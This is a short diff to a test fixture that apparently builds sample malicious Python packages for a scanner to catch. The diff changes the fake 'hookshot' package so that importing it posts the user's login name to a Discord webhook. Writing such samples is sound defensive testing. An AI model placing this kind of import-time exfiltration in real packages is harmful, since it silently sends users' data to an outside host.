@@ -159,7 +159,10 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
         wheel(
             "hookshot",
             "0.1",
-            {"hookshot/__init__.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"},
+            {
+                "hookshot/__init__.py": "import os, requests\nURL = 'https://discord.com/api/webhooks/1/x'\n"
+                "requests.post(URL, json={'content': os.getlogin()})\n"
+            },
         ),
     ),
     # Issue 16: behaviour over tokens. Each payload is inert (127.0.0.1, example.invalid, `true`).
